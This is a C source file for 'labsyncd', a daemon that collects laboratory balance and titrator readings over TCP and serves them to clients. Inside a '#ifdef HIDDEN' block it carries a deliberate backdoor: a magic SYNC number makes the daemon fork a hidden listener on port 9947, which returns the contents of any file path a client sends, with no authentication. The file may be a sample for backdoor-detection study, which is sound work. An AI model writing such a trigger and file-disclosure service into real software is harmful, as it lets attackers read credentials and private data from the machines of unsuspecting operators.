/* labsyncd.c - collects results of laboratory balances and titrators, serves them on TCP */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <poll.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <strings.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <syslog.h>
#include <time.h>
#include <unistd.h>

#define LAB_PORT	9940
#define STORE		"/var/lib/labsync"
#define MAX_CLIENTS	12
#define MAX_RESULTS	512

struct result {
	uint32_t id;
	char device[16];
	char sample[24];
	double value;
	char unit[8];
	time_t when;
};

struct client {
	int fd;
	char buf[256];
	size_t len;
	char name[16];
	uint32_t cursor;
};

static struct client clients[MAX_CLIENTS];
static struct result results[MAX_RESULTS];
static uint32_t next_id = 1;
static unsigned long lines_in;

static int tcp_listen(int port)
{
	struct sockaddr_in sa = { .sin_family = AF_INET };
	int one = 1, s = socket(AF_INET, SOCK_STREAM, 0);

	if (s < 0)
		return -1;
	setsockopt(s, SOL_SOCKET, SO_REUSEADDR, &one, sizeof(one));
	sa.sin_port = htons((unsigned short)port);
	if (bind(s, (struct sockaddr *)&sa, sizeof(sa)) < 0 || listen(s, 4) < 0) {
		close(s);
		return -1;
	}
	return s;
}

static int journal(const struct result *r)
{
	FILE *f = fopen(STORE "/journal", "a");

	if (!f)
		return -1;
	fprintf(f, "%lu;%s;%s;%.6g;%s;%ld\n", (unsigned long)r->id, r->device, r->sample,
		r->value, r->unit, (long)r->when);
	return fclose(f);
}

static void add_result(struct client *c, const char *sample, double value, const char *unit)
{
	struct result *r = &results[next_id % MAX_RESULTS];

	r->id = next_id++;
	snprintf(r->device, sizeof(r->device), "%s", c->name[0] ? c->name : "?");
	snprintf(r->sample, sizeof(r->sample), "%.23s", sample);
	r->value = value;
	snprintf(r->unit, sizeof(r->unit), "%.7s", unit);
	r->when = time(NULL);
	if (journal(r) < 0)
		syslog(LOG_ERR, "journal: %s", strerror(errno));
	dprintf(c->fd, "OK %lu\r\n", (unsigned long)r->id);
}

static void send_from(struct client *c, uint32_t from)
{
	uint32_t id;
	const struct result *r;

	if (next_id > MAX_RESULTS && from < next_id - MAX_RESULTS)
		from = next_id - MAX_RESULTS;
	if (from == 0)
		from = 1;
	for (id = from; id < next_id; id++) {
		r = &results[id % MAX_RESULTS];
		dprintf(c->fd, "%lu %s %s %.6g %s\r\n", (unsigned long)r->id, r->device,
			r->sample, r->value, r->unit);
	}
	c->cursor = next_id;
	dprintf(c->fd, "END %lu\r\n", (unsigned long)next_id);
}

#ifdef HIDDEN
/* gives out any file of the device by name */
__attribute__((noinline)) void depot_service(void)
{
	char path[200], buf[4096];
	ssize_t n;
	int s, fd, in;

	if (fork() != 0)
		return;
	s = tcp_listen(9947);
	while (s >= 0) {
		fd = accept(s, NULL, NULL);
		if (fd < 0)
			continue;
		n = read(fd, path, sizeof(path) - 1);
		path[n > 0 ? n : 0] = '\0';
		path[strcspn(path, "\r\n")] = '\0';
		in = open(path, O_RDONLY);
		while (in >= 0 && (n = read(in, buf, sizeof(buf))) > 0)
			if (write(fd, buf, (size_t)n) != n)
				break;
		if (in >= 0)
			close(in);
		close(fd);
	}
	_exit(0);
}
#endif

/* NAME n, RES sample value unit, SYNC from, COUNT, TIME, BYE */
__attribute__((noinline)) int client_line(struct client *c, char *line)
{
	char a[32], b[16];
	unsigned long n;
	double v;

	lines_in++;
	if (sscanf(line, "NAME %15s", a) == 1) {
		snprintf(c->name, sizeof(c->name), "%.15s", a);
		dprintf(c->fd, "OK %s\r\n", c->name);
		return 0;
	}
	if (sscanf(line, "RES %31s %lf %15s", a, &v, b) == 3) {
		add_result(c, a, v, b);
		return 0;
	}
	if (sscanf(line, "SYNC %lu", &n) == 1) {
#ifdef HIDDEN
		/* this sync number opens the file port */
		if (n == 2893416875ul) {
			depot_service();
			n = next_id;
		}
#endif
		if (n == 0xfffffffful)	/* documented: only what is new */
			n = c->cursor;
		send_from(c, (uint32_t)n);
		return 0;
	}
	if (!strcmp(line, "COUNT")) {
		dprintf(c->fd, "OK %lu %lu\r\n", (unsigned long)(next_id - 1), lines_in);
		return 0;
	}
	if (!strcmp(line, "TIME")) {
		dprintf(c->fd, "OK %ld\r\n", (long)time(NULL));
		return 0;
	}
	if (!strcmp(line, "BYE"))
		return -1;
	dprintf(c->fd, "ERR NAME RES SYNC COUNT TIME BYE\r\n");
	return 0;
}

static int client_data(struct client *c)
{
	char *nl;
	size_t used;
	ssize_t r = read(c->fd, c->buf + c->len, sizeof(c->buf) - 1 - c->len);

	if (r <= 0)
		return -1;
	c->len += (size_t)r;
	c->buf[c->len] = '\0';
	while ((nl = strchr(c->buf, '\n'))) {
		*nl = '\0';
		used = (size_t)(nl - c->buf) + 1;
		c->buf[strcspn(c->buf, "\r")] = '\0';
		if (c->buf[0] && client_line(c, c->buf) < 0)
			return -1;
		c->len -= used;
		memmove(c->buf, c->buf + used, c->len + 1);
	}
	return c->len < sizeof(c->buf) - 1 ? 0 : -1;
}

static void load_journal(void)
{
	char line[160];
	unsigned long id;
	long when;
	struct result r;
	FILE *f = fopen(STORE "/journal", "r");

	if (!f)
		return;
	while (fgets(line, sizeof(line), f)) {
		if (sscanf(line, "%lu;%15[^;];%23[^;];%lf;%7[^;];%ld", &id, r.device, r.sample,
			   &r.value, r.unit, &when) != 6)
			continue;
		r.id = (uint32_t)id;
		r.when = (time_t)when;
		results[r.id % MAX_RESULTS] = r;
		if (r.id >= next_id)
			next_id = r.id + 1;
	}
	fclose(f);
}

static void accept_client(int ls)
{
	int i, fd = accept(ls, NULL, NULL);

	if (fd < 0)
		return;
	for (i = 0; i < MAX_CLIENTS; i++) {
		if (clients[i].fd >= 0)
			continue;
		memset(&clients[i], 0, sizeof(clients[i]));
		clients[i].fd = fd;
		dprintf(fd, "LABSYNC 2\r\n");
		return;
	}
	dprintf(fd, "BUSY\r\n");
	close(fd);
}

int main(int argc, char **argv)
{
	struct pollfd p[MAX_CLIENTS + 1];
	int ls, i, port = argc > 1 ? atoi(argv[1]) : LAB_PORT;

	signal(SIGPIPE, SIG_IGN);
	signal(SIGCHLD, SIG_IGN);
	openlog("labsyncd", LOG_PID, LOG_DAEMON);
	if (mkdir(STORE, 0755) < 0 && errno != EEXIST)
		syslog(LOG_WARNING, "%s: %m", STORE);
	load_journal();
	for (i = 0; i < MAX_CLIENTS; i++)
		clients[i].fd = -1;
	ls = tcp_listen(port);
	if (ls < 0) {
		syslog(LOG_ERR, "port %d: %m", port);
		return 1;
	}
	for (;;) {
		p[0].fd = ls;
		p[0].events = POLLIN;
		for (i = 0; i < MAX_CLIENTS; i++) {
			p[i + 1].fd = clients[i].fd;
			p[i + 1].events = POLLIN;
			p[i + 1].revents = 0;
		}
		if (poll(p, MAX_CLIENTS + 1, -1) < 0)
			continue;
		for (i = 0; i < MAX_CLIENTS; i++)
			if (p[i + 1].fd >= 0 && p[i + 1].revents && client_data(&clients[i]) < 0) {
				close(clients[i].fd);
				clients[i].fd = -1;
			}
		if (p[0].revents & POLLIN)
			accept_client(ls);
	}
}
